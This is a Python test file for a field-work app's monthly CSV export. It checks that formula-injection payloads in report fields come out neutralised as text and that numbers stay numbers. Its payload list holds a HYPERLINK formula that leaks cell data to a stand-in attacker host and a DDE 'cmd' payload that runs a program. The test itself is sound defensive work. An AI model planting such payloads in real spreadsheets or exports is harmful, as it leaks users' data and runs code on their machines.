"""The monthly work record as CSV is safe to open in Excel: a cadre's formula in a report's
summary, household_ref or report id comes out as text; numbers come out as numbers."""
import csv
import io

from sqlalchemy import text

from fieldapp.extensions import db
from fieldapp.models.types import utcnow

from .helpers import login, make_user
from .test_reports import VILLAGE, cadre_login, report

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PAYLOADS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def test_monthly_csv_neutralises_formulas_and_keeps_numbers(client):
    cadre, headers = cadre_login(client)
    for n, payload in enumerate(PAYLOADS):
        response = report(client, headers, id=f"{payload}-{n}", summary=payload,
                          household_ref=payload)
        assert response.status_code == 201, response.get_json()
    db.session.execute(text("UPDATE work_reports SET distance_m = -37.5"))
    db.session.commit()
    make_user("insp", "inspector", regions=[VILLAGE[:9]])
    month = utcnow().astimezone().strftime("%Y-%m")
    response = client.get(f"/api/v1/reports/monthly?cadre_id={cadre.id}&month={month}"
                          "&format=csv", headers=login(client, "insp"))
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.data.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))
    assert sorted(r["summary"] for r in rows) == sorted("'" + p for p in PAYLOADS)
    for row in rows:
        assert row["household_ref"] == row["summary"]
        assert row["report_id"].startswith("'") and row["report_id"][1:].startswith(
            row["summary"][1:])
        assert (row["distance_m"], row["media_count"]) == ("-37.5", "0")
